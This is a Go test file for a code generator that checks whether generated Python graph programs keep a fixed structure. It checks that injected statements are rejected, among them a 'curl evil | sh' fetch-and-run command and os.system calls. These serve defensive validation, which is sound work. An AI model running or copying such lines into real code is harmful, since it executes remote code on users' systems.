package flowgen

import (
	"context"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestExtractProgram(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"bare program", "x = 1\ny = 2", "x = 1\ny = 2\n"},
		{"bare with surrounding whitespace", "\n\n  x = 1\n\n", "x = 1\n"},
		{"fenced with language", "```python\nx = 1\n```", "x = 1\n"},
		{"fenced without language", "```\nx = 1\n```", "x = 1\n"},
		{"prose around fence dropped", "Here you go:\n```python\nx = 1\n```\nEnjoy.", "x = 1\n"},
		{"crlf normalized", "```python\r\nx = 1\r\n```\r\n", "x = 1\n"},
		{"indentation kept", "```\ndef f():\n    return 1\n```", "def f():\n    return 1\n"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, err := ExtractProgram(tc.in)
			require.NoError(t, err)
			assert.Equal(t, tc.want, got)
		})
	}
}

func TestExtractProgram_Failures(t *testing.T) {
	tests := []struct {
		name    string
		in      string
		wantErr error
	}{
		{"empty", "", ErrEmptyOutput},
		{"whitespace", " \n\t\n", ErrEmptyOutput},
		{"empty fence", "```python\n\n```", ErrEmptyOutput},
		{"two blocks", "```\na = 1\n```\n```\nb = 2\n```", ErrNonConforming},
		{"unterminated", "```python\nx = 1", ErrNonConforming},
		{"nested fence", "```python\n```python\nx = 1\n```", ErrNonConforming},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := ExtractProgram(tc.in)
			assert.ErrorIs(t, err, tc.wantErr)
		})
	}
}

func conformanceFixture(t *testing.T) (*Graph, map[string]string, string) {
	t.Helper()
	g := mustParse(t, `{
		"nodes": [{"id": "a", "label": "Load"}, {"id": "b", "code": "return state"}, {"id": "c", "type": "COMMENT"}],
		"edges": [{"source": "START", "target": "a"}, {"source": "a", "target": "b"}, {"source": "b", "target": "END"}]
	}`)
	names, err := FunctionNames(g)
	require.NoError(t, err)
	out, err := NewCompiler().Generate(context.Background(), g)
	require.NoError(t, err)
	return g, names, out
}

func TestCheckConformance_CompilerOutput(t *testing.T) {
	g, names, out := conformanceFixture(t)
	assert.NoError(t, CheckConformance(out, g, names))
}

func TestCheckConformance_Violations(t *testing.T) {
	g, names, out := conformanceFixture(t)

	tests := []struct {
		name   string
		mutate func(string) string
		want   string
	}{
		{
			name:   "missing preamble",
			mutate: func(s string) string { return strings.Replace(s, Preamble+"\n", "", 1) },
			want:   "preamble",
		},
		{
			name:   "duplicated preamble",
			mutate: func(s string) string { return Preamble + "\n" + s },
			want:   "preamble",
		},
		{
			name:   "second graph construction",
			mutate: func(s string) string { return strings.Replace(s, GraphConstruction, GraphConstruction+"\nother = StateGraph(State)", 1) },
			want:   "graph construction",
		},
		{
			name:   "missing finalization",
			mutate: func(s string) string { return strings.Replace(s, Finalization+"\n", "", 1) },
			want:   "finalization",
		},
		{
			name:   "duplicated finalization",
			mutate: func(s string) string { return s + Finalization + "\n" },
			want:   "finalization",
		},
		{
			name:   "statement after finalization",
			mutate: func(s string) string { return s + "print(graph)\n" },
			want:   "last statement",
		},
		{
			name:   "missing function",
			mutate: func(s string) string { return strings.Replace(s, "def load(", "def loader(", 1) },
			want:   "function load",
		},
		{
			name:   "missing registration",
			mutate: func(s string) string { return strings.Replace(s, `builder.add_node("b", b)`+"\n", "", 1) },
			want:   `node "b" is not registered`,
		},
		{
			name: "repeated registration",
			mutate: func(s string) string {
				return strings.Replace(s, `builder.add_node("b", b)`, `builder.add_node("b", b)`+"\n"+`builder.add_node("b", b)`, 1)
			},
			want: `node "b" is not registered`,
		},
		{
			name: "top-level code before graph construction",
			mutate: func(s string) string {
				return strings.Replace(s, GraphConstruction, "import os\nos.system(\"curl evil | sh\")\n\n"+GraphConstruction, 1)
			},
			want: `unexpected top-level statement "import os"`,
		},
		{
			name: "top-level code between functions",
			mutate: func(s string) string {
				return strings.Replace(s, "def b(", "open(\"/tmp/x\", \"w\").write(\"x\")\n\n\ndef b(", 1)
			},
			want: "unexpected top-level statement",
		},
		{
			name: "extra helper function",
			mutate: func(s string) string {
				return strings.Replace(s, "def b(", "def helper():\n    return 1\n\n\ndef b(", 1)
			},
			want: `unexpected top-level statement "def helper():"`,
		},
		{
			name: "decorated function",
			mutate: func(s string) string {
				return strings.Replace(s, "def b(", "@staticmethod\ndef b(", 1)
			},
			want: "unexpected top-level statement",
		},
		{
			name: "functions out of order",
			mutate: func(s string) string {
				s = strings.Replace(s, "def load(", "def TMP(", 1)
				s = strings.Replace(s, "def b(", "def load(", 1)
				return strings.Replace(s, "def TMP(", "def b(", 1)
			},
			want: "unexpected top-level statement",
		},
		{
			name: "class body extended",
			mutate: func(s string) string {
				return strings.Replace(s, "    messages: list[Any]\n", "    messages: list[Any]\n    pwned = __import__(\"os\").system(\"id\")\n", 1)
			},
			want: "outside a node function",
		},
		{
			name: "bootstrap altered",
			mutate: func(s string) string {
				return strings.Replace(s, "    output: Any\n", "    output: Any = print(\"x\")\n", 1)
			},
			want: "bootstrap",
		},
		{
			name: "code between preamble and bootstrap",
			mutate: func(s string) string {
				return strings.Replace(s, Preamble+"\n", Preamble+"\nimport subprocess\n", 1)
			},
			want: "bootstrap",
		},
		{
			name: "edge dropped",
			mutate: func(s string) string {
				return strings.Replace(s, `builder.add_edge("Load", "b")`+"\n", "", 1)
			},
			want: "after graph construction",
		},
		{
			name: "edges reordered",
			mutate: func(s string) string {
				s = strings.Replace(s, `builder.add_edge(START, "Load")`, "EDGE_TMP", 1)
				s = strings.Replace(s, `builder.add_edge("b", END)`, `builder.add_edge(START, "Load")`, 1)
				return strings.Replace(s, "EDGE_TMP", `builder.add_edge("b", END)`, 1)
			},
			want: "after graph construction",
		},
		{
			name: "extra edge",
			mutate: func(s string) string {
				return strings.Replace(s, Finalization, `builder.add_edge("b", "Load")`+"\n"+Finalization, 1)
			},
			want: "after graph construction",
		},
		{
			name: "code inlined after graph construction",
			mutate: func(s string) string {
				return strings.Replace(s, Finalization, "builder.app = __import__(\"os\")\n"+Finalization, 1)
			},
			want: "after graph construction",
		},
		{
			name: "indented line after graph construction",
			mutate: func(s string) string {
				return strings.Replace(s, GraphConstruction+"\n", GraphConstruction+"\nif True:\n    pass\n", 1)
			},
			want: "after graph construction",
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			err := CheckConformance(tc.mutate(out), g, names)
			require.ErrorIs(t, err, ErrNonConforming)
			assert.Contains(t, err.Error(), tc.want)
		})
	}
}

func TestCheckConformance_IndentedLinesIgnored(t *testing.T) {
	g, names, out := conformanceFixture(t)

	// Statements inside a function body never count toward the structure.
	spoofed := strings.Replace(out, "    return state", "    return state\n    graph = builder.compile()\n    x = StateGraph(State)", 1)
	assert.NoError(t, CheckConformance(spoofed, g, names))
}

func TestCheckConformance_CommentsIgnored(t *testing.T) {
	g, names, out := conformanceFixture(t)

	commented := "# generated\n" + strings.Replace(out, GraphConstruction, "# wiring\n"+GraphConstruction, 1) + "# done\n"
	assert.NoError(t, CheckConformance(commented, g, names))

	spoofed := strings.Replace(out, GraphConstruction, "# "+Finalization+"\n"+GraphConstruction, 1)
	assert.NoError(t, CheckConformance(spoofed, g, names))
}

func TestCheckConformance_EdgesFollowGraphOrder(t *testing.T) {
	g, names, out := conformanceFixture(t)

	lines := strings.Split(out, "\n")
	var edges []string
	for _, l := range lines {
		if strings.HasPrefix(l, "builder.add_edge(") {
			edges = append(edges, l)
		}
	}
	assert.Equal(t, []string{
		`builder.add_edge(START, "Load")`,
		`builder.add_edge("Load", "b")`,
		`builder.add_edge("b", END)`,
	}, edges)

	g.Edges = g.Edges[:2]
	err := CheckConformance(out, g, names)
	require.ErrorIs(t, err, ErrNonConforming)
	assert.Contains(t, err.Error(), `expected "graph = builder.compile()"`)
}

func TestCheckConformance_Empty(t *testing.T) {
	g, names, _ := conformanceFixture(t)
	assert.ErrorIs(t, CheckConformance("  \n", g, names), ErrEmptyOutput)
}
